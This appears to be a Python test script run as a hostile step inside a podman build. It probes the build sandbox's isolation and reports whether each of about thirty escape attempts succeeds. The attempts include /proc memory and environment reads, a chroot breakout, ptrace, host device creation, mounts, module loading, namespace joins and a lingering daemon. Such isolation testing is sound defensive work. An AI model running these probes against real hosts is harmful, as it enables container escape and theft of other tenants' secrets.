"""What a hostile RUN instruction tries. It runs in the build, on the standard library alone, and prints its results.

/wanted.json says what the test has put on the host for it to find (`victim`). Each attack returns what it
got hold of, or raises. A line "ATTACK name SUCCEEDED …" or "ATTACK name failed …" is printed for each.
"""

import ctypes
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

SECRETS: dict[str, Any] = json.loads(Path("/wanted.json").read_text())
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACKS: dict[str, Callable[[], object]] = {}


class NothingError(Exception):
    """The attack got nothing."""


def register_attack(function: Callable[[], object]) -> Callable[[], object]:
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def call(result: int) -> int:
    """The result of a system call. Raises OSError."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def list_processes() -> Iterator[str]:
    """All in sight, but the own one and its parent, which podman made for this very step, with the same rights."""
    yield from (name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (os.getpid(), os.getppid()))


def get_first_secret(secrets: Iterator[str]) -> str:
    for secret in secrets:
        return secret
    raise NothingError


def search_processes(entry: str, text: str) -> Iterator[str]:
    """The files /proc/PID/<entry> that hold the text."""
    for name in list_processes():
        try:
            if text in Path("/proc", name, entry).read_bytes().decode(errors="replace"):
                yield f"/proc/{name}/{entry}"
        except OSError:
            continue


@register_attack
def read_a_file_of_the_host_through_another_process() -> str:
    def list_matches() -> Iterator[str]:
        for name in list_processes():
            for link in ("root", "cwd"):
                path = Path("/proc", name, link, SECRETS["file"].lstrip("/"))
                try:
                    if SECRETS["secret"] in path.read_text():
                        yield str(path)
                except OSError:
                    continue

    return get_first_secret(list_matches())


@register_attack
def read_the_memory_of_another_process() -> str:
    def list_matches() -> Iterator[str]:
        for name in list_processes():
            try:
                Path("/proc", name, "mem").open("rb").close()
                yield f"/proc/{name}/mem"
            except OSError:
                continue

    return get_first_secret(list_matches())


@register_attack
def read_the_environment_of_another_process() -> str:
    return get_first_secret(search_processes("environ", SECRETS["secret"]))


@register_attack
def find_the_secret_in_the_own_environment() -> str:
    return get_first_secret(name for name, value in os.environ.items() if SECRETS["secret"] in value)


@register_attack
def see_a_process_of_the_host() -> str:
    return get_first_secret(search_processes("cmdline", SECRETS["marker"]))


@register_attack
def signal_a_process_of_the_host() -> str:
    path = get_first_secret(search_processes("cmdline", SECRETS["marker"]))
    os.kill(int(path.split("/")[2]), 0)
    return path


@register_attack
def trace_the_builder() -> str:
    for name in list_processes():
        if LIBC.ptrace(0x4206, int(name), 0, 0) == 0:  # PTRACE_SEIZE, which does not stop it
            return name
    raise NothingError


@register_attack
def break_out_of_the_root_folder() -> str:
    os.makedirs("/out-of-here", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("/out-of-here")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    try:
        return get_first_secret(
            name for name in (SECRETS["file"], "/storage", "/disk", "/scratch") if os.path.exists(name)
        )
    finally:
        os.fchdir(top)
        os.chroot(".")


@register_attack
def find_the_result_or_the_storage_of_builds() -> str:
    return get_first_secret(
        name for name in ("/storage", "/disk", "/scratch", "/out", "/context") if os.path.exists(name)
    )


@register_attack
def find_what_another_build_left() -> str:
    return get_first_secret(name for name in ("/tmp/left", "/var/tmp/left", "/dev/shm/left") if os.path.exists(name))


@register_attack
def mount_something() -> str:
    os.makedirs("/mnt-here", exist_ok=True)
    call(LIBC.mount(b"tmpfs", b"/mnt-here", b"tmpfs", 0, None))
    return "tmpfs"


@register_attack
def make_a_device_of_the_host_and_read_it() -> str:
    number = int(SECRETS["device"])
    os.mknod("/host-device", 0o060600, number)
    with open("/host-device", "rb") as file:
        return f"{len(file.read(512))} bytes"


@register_attack
def find_a_device_of_the_host() -> str:
    usual = {"null", "zero", "full", "random", "urandom", "tty", "fd", "stdin", "stdout", "stderr", "pts", "shm"}
    return get_first_secret(
        name for name in os.listdir("/dev") if name not in usual | {"mqueue", "ptmx", "console", "core"}
    )


@register_attack
def load_a_module() -> str:
    number = {"x86_64": 175, "aarch64": 105}[os.uname().machine]
    call(LIBC.syscall(number, b"\x7fELF", 4, b""))
    return "loaded"


@register_attack
def write_a_kernel_parameter() -> str:
    for name in ("kernel/core_pattern", "net/ipv4/ip_forward", "vm/overcommit_memory", "kernel/hostname"):
        path = Path("/proc/sys", name)
        try:
            path.write_text(path.read_text())
            return name
        except OSError:
            continue
    raise NothingError


@register_attack
def use_the_system_request_key() -> str:
    with open("/proc/sysrq-trigger", "wb"):
        return "/proc/sysrq-trigger"


@register_attack
def reach_the_control_groups() -> str:
    return get_first_secret(str(path) for path in Path("/sys/fs/cgroup").rglob("cgroup.procs"))


@register_attack
def mount_the_control_groups() -> str:
    os.makedirs("/groups", exist_ok=True)
    for kind in (b"cgroup2", b"cgroup"):
        if LIBC.mount(kind, b"/groups", kind, 0, b"pids" if kind == b"cgroup" else None) == 0:
            return kind.decode()
    raise NothingError


@register_attack
def see_the_hardware() -> str:
    return get_first_secret(iter(os.listdir("/sys")))


@register_attack
def leave_a_key_for_other_builds() -> str:
    number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
    user_keyring = ctypes.c_int(-4)
    return str(call(LIBC.syscall(number, b"user", b"left", b"secret", 6, user_keyring)))


@register_attack
def set_the_clock() -> str:
    now = time.time_ns()
    call(LIBC.clock_settime(0, struct.pack("@ll", now // 10**9, now % 10**9)))
    return "set"


@register_attack
def join_the_network_of_the_builder() -> str:
    for name in list_processes():
        try:
            with open(f"/proc/{name}/ns/net", "rb") as network:
                call(LIBC.setns(network.fileno(), 0))
                return name
        except OSError:
            continue
    raise NothingError


@register_attack
def change_the_network() -> str:
    """NFT_MSG_NEWTABLE and its like need what only user namespace 1 has; so does bringing an interface down."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        import fcntl

        fcntl.ioctl(control, 0x8914, struct.pack("16sh14x", b"lo", 0))  # SIOCSIFFLAGS
    return "interface down"


@register_attack
def make_a_user_namespace_with_all_capabilities() -> str:
    """It opens most of the kernel's attack surface: nf_tables, traffic control, file systems."""
    child = os.fork()
    if not child:
        os._exit(0 if LIBC.unshare(0x10000000) == 0 else 1)  # CLONE_NEWUSER
    if os.waitpid(child, 0)[1]:
        raise NothingError
    return "CLONE_NEWUSER"


@register_attack
def listen_to_the_network() -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return "AF_PACKET"


@register_attack
def reach_the_hypervisor() -> str:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "AF_VSOCK"


@register_attack
def see_shared_memory_of_the_host() -> str:
    return str(call(LIBC.shmget(int(SECRETS["shared_memory"]), 0, 0)))


@register_attack
def connect_to_an_abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + SECRETS["abstract"])
        return client.recv(64).decode()


def make_connect_attack(name: str, address: str, port: int) -> None:
    def connect() -> str:
        with socket.create_connection((address, port), timeout=5) as client:
            return str(client.getpeername())

    ATTACKS[f"connect-to-{name}"] = connect


for name, (address, port) in SECRETS["listeners"].items():
    make_connect_attack(name, address, port)


def main() -> None:
    Path("/tmp").mkdir(exist_ok=True)
    for name, function in ATTACKS.items():
        try:
            line = f"SUCCEEDED {function()}"
        except (OSError, NothingError) as error:
            line = f"failed {error!r}"
        sys.stdout.write(f"ATTACK {name} {line}\n")
        sys.stdout.flush()
    for path in ("/tmp/left", "/var/tmp/left", "/dev/shm/left"):  # for the next build to find
        try:
            Path(path).parent.mkdir(parents=True, exist_ok=True)
            Path(path).write_text("left")
        except OSError:
            continue
    if os.fork() == 0:  # and something that goes on after the end
        os.setsid()
        if os.fork() == 0:
            command = [sys.executable, "-c", f"import time; time.sleep(600)  # {SECRETS['daemon']}"]
            os.execv(sys.executable, command)  # noqa: S606 - that is the attack
        os._exit(0)


if __name__ == "__main__":
    main()
